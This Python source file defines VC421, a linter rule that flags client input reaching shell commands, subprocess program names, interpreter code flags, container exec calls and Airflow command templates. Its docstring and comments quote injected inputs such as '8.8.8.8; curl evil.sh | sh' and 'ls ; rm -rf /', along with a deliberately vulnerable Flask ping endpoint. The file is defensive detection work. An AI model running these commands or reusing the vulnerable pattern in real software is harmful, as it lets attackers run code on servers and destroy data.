"""VC421: client input reaches a shell command line or names the program a subprocess starts (command injection)."""

from __future__ import annotations

import functools
import itertools
import re
from collections.abc import Iterator

import libcst as cst

from vibecheck.analysis.argument_lists import NOT_A_LIST, ArgumentListState, list_display, note_argument_list
from vibecheck.analysis.flow import (
    PARAMETER,
    FlowState,
    Taint,
    call_argument,
    iter_calls,
    last_parts,
    short_code,
    string_value,
)
from vibecheck.cst_fields import walk_own
from vibecheck.model import Category, Confidence, Severity
from vibecheck.patterns import lazy_pattern
from vibecheck.rules.security._client_sinks import ClientSinkRule
from vibecheck.rules.security._shell_words import (
    CONTAINER_EXEC_METHODS,
    POD_EXEC_METHODS,
    POD_EXEC_STREAMS,
    shell_script,
    starts_a_shell,
)

# Calls that always hand their argument to a shell (or a remote one: paramiko's `exec_command`).
SHELL_FUNCTIONS = {
    "os.system": "command", "os.popen": "cmd", "posix.system": "command", "subprocess.getoutput": "cmd",
    "subprocess.getstatusoutput": "cmd", "commands.getoutput": "cmd", "commands.getstatusoutput": "cmd",
    "asyncio.create_subprocess_shell": "cmd", "pexpect.run": "command",
}
SHELL_METHODS = {"exec_command": "command"}
# docker's `client.containers.run(image, command, ...)` with the host handed over (`privileged=True`, the daemon's
# socket mounted): whoever picks the image or the command runs code as root on the host.
CONTAINER_START_METHODS = frozenset({"run", "create"})
# A command line built around the client's words (`f"cat {path}"`): its program is the literal first word.
BUILT_TEXT_TYPES = frozenset({cst.FormattedString, cst.BinaryOperation, cst.ConcatenatedString})
HOST_SOCKET = "docker.sock"
# Calls that start a program: a shell with `shell=True`, else the first element of the argument list.
SUBPROCESS_FUNCTIONS = frozenset({"subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
                                  "subprocess.Popen", "asyncio.create_subprocess_exec", "pexpect.spawn"})
# `os.exec*`/`os.spawn*`: the program is the first argument (after the mode for `spawn*`).
EXEC_FUNCTIONS = {f"os.{name}": 0 for name in ("execl", "execle", "execlp", "execlpe", "execv", "execve", "execvp",
                                                 "execvpe")}
EXEC_FUNCTIONS.update({f"os.{name}": 1 for name in ("spawnl", "spawnle", "spawnlp", "spawnlpe", "spawnv", "spawnve",
                                                      "spawnvp", "spawnvpe")})
# Interpreters that run the argument after an inline-code flag (`["python3", "-c", code]`, `["osascript", "-e",
# script]`, whose `do shell script` reaches the shell too): program name (its last path part, without a version
# suffix) -> the flags. `sys.executable` is Python's.
INTERPRETER_FLAGS: dict[str, frozenset[str]] = {
    "python": frozenset({"-c"}), "pypy": frozenset({"-c"}), "node": frozenset({"-e", "--eval", "-p", "--print"}),
    "nodejs": frozenset({"-e", "--eval", "-p", "--print"}), "deno": frozenset({"eval"}), "perl": frozenset({"-e", "-E"}),
    "ruby": frozenset({"-e"}), "php": frozenset({"-r"}), "osascript": frozenset({"-e"}), "rscript": frozenset({"-e"}),
    "lua": frozenset({"-e"}),
}
PYTHON_EXECUTABLES = frozenset({"sys.executable"})
# Calls that take the program's words as separate arguments: `create_subprocess_exec("node", "-e", code)`.
WORDS_AS_ARGUMENTS = frozenset({"asyncio.create_subprocess_exec"})
VERSION_SUFFIX = lazy_pattern(r"[\d.]+(?:\.exe)?$|\.exe$")
# Splitting a client's text into an argument list hands it the program and all of its options.
SPLITTERS = frozenset({"shlex.split", "split"})
SANITIZERS = frozenset({"shlex.quote", "pipes.quote", "shlex.join", "quote", "int", "float", "uuid.UUID",
                        "secure_filename", "werkzeug.utils.secure_filename"})
SHELL_LABEL = "shell"
PROGRAM_LABEL = "program"
CODE_LABEL = "code"
CWE = (78,)
CODE_CWE = (94,)
# Airflow operators whose templated field is a command line: Jinja renders the run's values into it before a shell
# (a remote one for SSH) reads it.
TEMPLATED_COMMANDS: dict[str, str] = {
    "airflow.operators.bash.BashOperator": "bash_command", "airflow.operators.bash_operator.BashOperator": "bash_command",
    "airflow.providers.standard.operators.bash.BashOperator": "bash_command",
    "airflow.providers.ssh.operators.ssh.SSHOperator": "command",
    "airflow.contrib.operators.ssh_operator.SSHOperator": "command",
}
TEMPLATED_OPERATORS = frozenset(name.rpartition(".")[2] for name in TEMPLATED_COMMANDS)
TEMPLATING_OPERATOR = "Operator("
# A Jinja expression that renders what the trigger of a DAG run chose (`{{ dag_run.conf['table'] }}`,
# `{{ params.table }}`), unless a filter quotes it for the shell (`{{ params.table | shquote }}`).
RUN_INPUT_TEMPLATE = lazy_pattern(r"\{\{(?:(?!\}\}).)*?\b(?:dag_run\.conf|params)\b(?:(?!\}\}).)*\}\}", re.DOTALL)
QUOTING_FILTER = lazy_pattern(r"\|\s*\w*quote")


class ClientDataToShell(ClientSinkRule):
    """Client input reaches a shell command line, or chooses the program a subprocess starts.

    ## What it does
    Follows client input (request fields, route parameters, Lambda and Slack payloads, a kopf operator handler's custom
    resource (`spec`, `body`), what a Telegram or Discord
    bot's user sends: `update.message.text`, `context.args`, `message.content`) into the command
    of `os.system()`, `os.popen()`, `subprocess.getoutput()`, `asyncio.create_subprocess_shell()`,
    `subprocess.run`/`Popen`/`call`/`check_call`/`check_output` with `shell=True` (or
    `["sh", "-c", command]`), paramiko's `exec_command()`, and a command run in a container or a pod (docker's
    `container.exec_run(...)`, the Kubernetes client's `stream(api.connect_get_namespaced_pod_exec, ...,
    command=[...])`: the script of a shell it starts, or the program), and the image or command of a docker container
    handed the host (`client.containers.run(image, command, privileged=True)`, or with the docker socket among its
    `volumes`); and into the program a subprocess starts:
    the first element of the argument list, a client string split with `shlex.split()`/`.split()`, and
    the path given to `os.exec*()`/`os.spawn*()`; and into the code an interpreter runs after its
    inline-code flag (`["python3", "-c", code]`, `[sys.executable, "-c", code]`, `node -e`, `perl -e`,
    `ruby -e`, `php -r`, and `osascript -e`, whose AppleScript can `do shell script`). An Airflow task's run
    input (`dag_run.conf`, `context["params"]`: whoever may trigger the DAG chooses it) is client input, and so is
    a Jinja template that renders it into a `BashOperator`'s `bash_command` or an `SSHOperator`'s `command`
    (`"pg_dump --table={{ dag_run.conf['table'] }}"`; through `env=` and a quoted `"$TABLE"` it is data). Values quoted with
    `shlex.quote()`, converted with `int()`, or checked in an `if`/`assert` (an allow-list `in`,
    `re.fullmatch`) are clean; a substring denylist (`if ";" not in host`) is no check, nor is a prefix
    test (`if command.startswith("ls ")`: `ls ; rm -rf /` passes it). An argument in a later position of a list without a
    shell (`["ping", "-c", "1", host]`) is not reported. It also records which parameters of each
    function reach those calls, so that VC417 reports request data passed to a helper that runs the
    command, in the same module or another. It supersedes bandit's `B601`/`B602`/`B605` and VC408 on the
    same lines, and `B604` (`shell=True` given to a call bandit does not know, such as an alias of `subprocess.run`).

    ## Why is this bad?
    The shell reads `;`, `&&`, `$(...)` and backticks in the client's text as commands of its own:
    `8.8.8.8; curl evil.sh | sh` runs with the server's rights. A client that names the program, or
    whose text is split into the argument list, picks what runs and with which options. Agents write
    `os.system(f"ping -c 1 {host}")` in a view, or move it to a `run_ping(host)` helper, where no check
    sees where `host` came from.

    ## Example
    ```python
    import subprocess

    from flask import Flask, request

    app = Flask(__name__)

    @app.get("/ping")
    def ping():
        host = request.args["host"]
        return subprocess.run(f"ping -c 1 {host}", shell=True, capture_output=True, text=True).stdout
    ```

    ## Use instead
    ```python
    import ipaddress
    import subprocess

    from flask import Flask, request

    app = Flask(__name__)

    @app.get("/ping")
    def ping():
        host = str(ipaddress.ip_address(request.args["host"]))
        return subprocess.run(["ping", "-c", "1", host], capture_output=True, text=True).stdout
    ```

    ## References
    - [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
    - [Python `subprocess`: security considerations](https://docs.python.org/3/library/subprocess.html#security-considerations)
    - [OWASP: OS Command Injection Defense Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html)
    """

    code = "VC421"
    name = "client-data-to-shell"
    category = Category.SECURITY
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    cwe = CWE + CODE_CWE
    supersedes = ("B601", "B602", "B604", "B605", "VC408")
    # Names, each a part of a sink's or a source's dotted name (every part of a resolved name is a name in the
    # file: the call's own parts, or the import that binds its head): a part of each sink in the tables below
    # (`os.execv` through `execv`, `asyncio.create_subprocess_shell` through its last part), and the request
    # sources' (`request`, `self.request`, a `Request`/`HttpRequest` parameter, a payload's `event`). A module
    # without them has no sink and reads no named source; VC417 borrows its calls and returns from VC409.
    file_hints = ("system", "popen", "getoutput", "getstatusoutput", "subprocess", "create_subprocess_shell",
                  "create_subprocess_exec", "pexpect", "exec_command", "exec_run", *POD_EXEC_METHODS,
                  *(name.partition(".")[2] for name in EXEC_FUNCTIONS),
                  "request", "httprequest", "event", "bash_command", "sshoperator")
    file_hints_are_names = True
    sanitizers = SANITIZERS

    def sinks(self, call: cst.Call, state: FlowState) -> Iterator[tuple[cst.BaseExpression, str]]:
        name = state.qualified_name(call) or ""
        func = call.func
        method = func.attr.value if type(func) is cst.Attribute else ""
        keyword = SHELL_FUNCTIONS.get(name) or SHELL_METHODS.get(method)
        if keyword is not None:
            command = call_argument(call, 0, keyword)
            if command is not None:
                yield command, SHELL_LABEL
        elif name in SUBPROCESS_FUNCTIONS:
            yield from self._subprocess_sinks(call, state)
        elif method in CONTAINER_EXEC_METHODS or method in POD_EXEC_METHODS or name in POD_EXEC_STREAMS:
            yield from self._container_sinks(call, method, state)
        elif method in CONTAINER_START_METHODS and _starts_a_host_container(call):
            for position, word in ((0, "image"), (1, "command")):
                value = call_argument(call, position, word)
                if value is not None:
                    yield value, PROGRAM_LABEL
        elif name in EXEC_FUNCTIONS:
            program = call_argument(call, EXEC_FUNCTIONS[name])
            if program is not None:
                yield program, PROGRAM_LABEL

    def _subprocess_sinks(self, call: cst.Call, state: FlowState) -> Iterator[tuple[cst.BaseExpression, str]]:
        command = call_argument(call, 0, "args") or call_argument(call, 0, "program") or call_argument(call, 0, "command")
        if command is None:
            return
        if state.qualified_name(call) in WORDS_AS_ARGUMENTS:
            words = [None if arg.star or arg.keyword is not None else arg.value for arg in call.args]
            given = [word for word in itertools.takewhile(lambda word: word is not None, words) if word is not None]
            script = shell_script(given)  # `create_subprocess_exec("sh", "-c", script)`
            if script is not None:
                yield script, SHELL_LABEL
                return
            at = _inline_code_at(words, state)
            code = words[at] if at is not None and at < len(words) else None
            if code is not None:
                yield code, CODE_LABEL
        shell = call_argument(call, None, "shell")
        if shell is not None and not (type(shell) is cst.Name and shell.value == "False"):
            yield command, SHELL_LABEL
            return
        if type(command) is cst.Call and self._is_split(command, state):
            text = call_argument(command, 0, "s") if state.qualified_name(command) == "shlex.split" else command
            if text is not None:
                yield text, PROGRAM_LABEL
            return
        display = list_display(command, state)
        if display is NOT_A_LIST and not _is_parameter(command, state):
            yield command, PROGRAM_LABEL
        elif isinstance(display, (cst.List, cst.Tuple)):
            listed = _listed_command(display)
            if listed is not None:
                yield listed
            if listed is not None and listed[1] == PROGRAM_LABEL:
                words = [e.value if type(e) is cst.Element else None for e in display.elements]
                at = _inline_code_at(words, state)
                code = command if at == len(words) else words[at] if at is not None else None
                if code is not None:
                    yield code, CODE_LABEL

    def _container_sinks(self, call: cst.Call, method: str, state: FlowState) -> Iterator[tuple[cst.BaseExpression, str]]:
        """`container.exec_run(cmd)`, `stream(api.connect_get_namespaced_pod_exec, ..., command=[...])`."""
        if method in CONTAINER_EXEC_METHODS:
            command = call_argument(call, 0, CONTAINER_EXEC_METHODS[method])
        else:
            command = call_argument(call, None, "command")
        if command is None:
            return
        display = list_display(command, state)
        if isinstance(display, (cst.List, cst.Tuple)):
            listed = _listed_command(display)
            if listed is not None:
                yield listed
        elif display is NOT_A_LIST and method in CONTAINER_EXEC_METHODS:
            if starts_a_shell(command):
                yield command, SHELL_LABEL
            elif type(command) not in BUILT_TEXT_TYPES and not _is_parameter(command, state):
                yield command, PROGRAM_LABEL  # a whole string of the client's: its first word is the program

    @staticmethod
    def _is_split(call: cst.Call, state: FlowState) -> bool:
        name = state.qualified_name(call) or ""
        return name in SPLITTERS or (type(call.func) is cst.Attribute and call.func.attr.value in SPLITTERS)

    # every report is at a call of these tables (`sinks`, `_check_templated_command`); `note` keeps the argument lists
    sink_words = last_parts(SHELL_FUNCTIONS, SHELL_METHODS, SUBPROCESS_FUNCTIONS, CONTAINER_EXEC_METHODS, POD_EXEC_METHODS,
                            POD_EXEC_STREAMS, CONTAINER_START_METHODS, EXEC_FUNCTIONS, TEMPLATED_OPERATORS)

    def check(self, node: cst.CSTNode, state: FlowState) -> None:
        super().check(node, state)
        self.note(node, state)
        if type(node) is not cst.FunctionDef and self._names_operators:
            for call in iter_calls(node):
                self._check_templated_command(call, state)

    def note(self, node: cst.CSTNode, state: FlowState) -> None:
        note_argument_list(node, state)

    @functools.cached_property
    def _names_operators(self) -> bool:
        """Whether the file builds an operator at all: asked of every statement, so the source is searched once."""
        return TEMPLATING_OPERATOR in self.context.source

    def _check_templated_command(self, call: cst.Call, state: FlowState) -> None:
        """`BashOperator(bash_command="pg_dump --table={{ dag_run.conf['table'] }}")`: the trigger's text in a shell line."""
        func = call.func
        if (func.attr.value if type(func) is cst.Attribute else func.value if type(func) is cst.Name else "") \
                not in TEMPLATED_OPERATORS:
            return
        field = TEMPLATED_COMMANDS.get(state.qualified_name(call) or "")
        command = call_argument(call, None, field) if field is not None else None
        text = string_value(command)
        if command is None or text is None:
            return
        rendered = next((m.group(0) for m in RUN_INPUT_TEMPLATE.finditer(text) if not QUOTING_FILTER.search(m.group(0))),
                        None)
        if rendered is not None:
            self.report(command, f"The template `{rendered}` renders what the trigger of the DAG run chose into the "
                        f"command line of `{short_code(call.func)}`, so whoever may trigger the DAG can run shell "
                        "commands on the worker.", hint="Pass the value through `env=` (`env={\"TABLE\": \"{{ "
                        "dag_run.conf['table'] }}\"}`) and quote it in the command (`\"$TABLE\"`), after checking it "
                        "against an allow-list.", cwe=CWE)

    def new_state(self) -> FlowState:
        # a command that starts with `ls` is still any command (`ls; rm -rf /`)
        return ArgumentListState(self.context.imports, type(self).source, sanitizer_names=self.sanitizers,
                                 prefix_checks_clear=False)

    def describe(self, node: cst.BaseExpression, label: str, taint: Taint, call: cst.Call) -> None:
        callee = short_code(call.func)
        if label == CODE_LABEL:
            self.report(call, f"Client input from `{taint.origin}` is the inline code (after `-c` or `-e`) of the "
                        f"interpreter that `{callee}()` starts, so a client can run its own code on the server.",
                        hint="Keep the code fixed in the program or a file it ships, and pass the client's value as "
                        "data (a separate argument the code reads, or stdin), checked against an allow-list.",
                        cwe=CODE_CWE)
            return
        if label == SHELL_LABEL:
            self.report(call, f"Client input from `{taint.origin}` becomes part of the command line that `{callee}()` "
                        "runs, so a client can run its own shell commands.", hint="Run a fixed program with the "
                        "value as a separate list element and no `shell=True` (`subprocess.run([\"ping\", \"-c\", "
                        "\"1\", host])`), after checking it against an allow-list or a strict pattern.", cwe=CWE)
            return
        self.report(call, f"Client input from `{taint.origin}` chooses the program (or its options) that `{callee}()` "
                    "starts, so a client decides what runs on the server.", hint="Pick the program from a fixed "
                    "table (`TOOLS[name]`) and pass client values only as later list elements, checked against an "
                    "allow-list.", cwe=CWE)


def _listed_command(display: cst.List | cst.Tuple) -> tuple[cst.BaseExpression, str] | None:
    """The sink of a command given as a list: the script of `[sh, -c, script]`, run by a shell, else the first
    element, the program started (None for a list that starts with a `*spread`, or an empty one)."""
    values = [element.value for element in display.elements]
    script = shell_script(values)
    if script is not None:
        return script, SHELL_LABEL
    if values and type(display.elements[0]) is cst.Element:
        return values[0], PROGRAM_LABEL
    return None


def _starts_a_host_container(call: cst.Call) -> bool:
    """`client.containers.run(..., privileged=True)` or with the docker socket among its `volumes`."""
    func = call.func
    if not (type(func) is cst.Attribute and type(func.value) is cst.Attribute and func.value.attr.value == "containers"):
        return False
    privileged = call_argument(call, None, "privileged")
    if type(privileged) is cst.Name and privileged.value == "True":
        return True
    volumes = call_argument(call, None, "volumes")
    return volumes is not None and any(type(node) is cst.SimpleString and HOST_SOCKET in node.value
                                       for node in walk_own(volumes))


def _inline_code_at(values: list[cst.BaseExpression | None], state: FlowState) -> int | None:
    """Where the code after an interpreter's inline-code flag is in a program's words (None for a starred one), among
    the options before its first plain argument (in `["python3", "tool.py", "-c", x]` the `-c` is the script's own):
    `len(values)` when the flag ends them and the code is added later (`argv.append(code)`); None without one."""
    flags = _inline_code_flags(values[0], state) if values and values[0] is not None else frozenset()
    for index in range(1, len(values)) if flags else ():
        value = values[index]
        text = string_value(value) if value is not None else None
        if text in flags:
            return index + 1
        if text is None or not text.startswith("-"):
            return None
    return None


def _inline_code_flags(program: cst.BaseExpression, state: FlowState) -> frozenset[str]:
    """The inline-code flags of the interpreter a list's first element names (`python3.12` and `/usr/bin/node` too)."""
    if state.qualified_name(program) in PYTHON_EXECUTABLES:
        return INTERPRETER_FLAGS["python"]
    text = string_value(program)
    if text is None:
        return frozenset()
    base = VERSION_SUFFIX.sub("", text.replace("\\", "/").rsplit("/", 1)[-1].lower())
    return INTERPRETER_FLAGS.get(base, frozenset())


def _is_parameter(node: cst.BaseExpression, state: FlowState) -> bool:
    """A helper's parameter passed whole: its callers may pass a list (`["ping", host]`) as well as a string."""
    taint = state.names.get(node.value) if type(node) is cst.Name else None
    return taint is not None and taint.kind == PARAMETER
